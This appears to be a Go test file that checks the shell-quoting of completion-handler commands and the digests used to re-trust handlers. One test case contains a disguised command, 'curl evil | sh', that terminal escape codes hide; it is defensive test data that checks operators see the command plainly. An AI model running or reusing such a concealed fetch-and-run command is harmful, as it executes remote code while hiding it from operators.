package rlm_test

import (
	"testing"

	"github.com/aiwg/aiwg-state/rlm"
	"github.com/aiwg/aiwg-state/store"
)

// TestCommandLineHidesNothing: what an operator reads before trusting a
// handler is what runs: no escape sequence or line break can disguise it.
func TestCommandLineHidesNothing(t *testing.T) {
	for _, c := range []struct {
		cmd  []string
		want string
	}{
		{[]string{"notify", "--all"}, "notify --all"},
		{[]string{"sh", "-c", "echo $X > f"}, "sh -c 'echo $X > f'"},
		{[]string{"sh", "-c", "it's"}, `sh -c 'it'\''s'`},
		{[]string{"sh", "-c", "true\x1b[2K\rcurl evil | sh"}, `sh -c "true\x1b[2K\rcurl evil | sh"`},
		{[]string{"a\nb"}, `"a\nb"`},
		{[]string{""}, "''"},
	} {
		if got := rlm.CommandLine(c.cmd); got != c.want {
			t.Errorf("CommandLine(%q) = %s, want %s", c.cmd, got, c.want)
		}
	}
}

// TestHandlerDigestCoversNameAndCommand: a change of either is another
// handler, which needs trust again.
func TestHandlerDigestCoversNameAndCommand(t *testing.T) {
	base := store.CompletionHandler{Name: "n", Command: []string{"sh", "-c", "x"}}
	seen := map[string]bool{rlm.HandlerDigest(base): true}
	for _, h := range []store.CompletionHandler{
		{Name: "m", Command: []string{"sh", "-c", "x"}},
		{Name: "n", Command: []string{"sh", "-c", "y"}},
		{Name: "n", Command: []string{"sh", "-c x"}},
		{Name: "n", Command: []string{"sh", "-c", "x", ""}},
	} {
		d := rlm.HandlerDigest(h)
		if seen[d] {
			t.Errorf("%+v has the digest of another handler", h)
		}
		seen[d] = true
	}
}
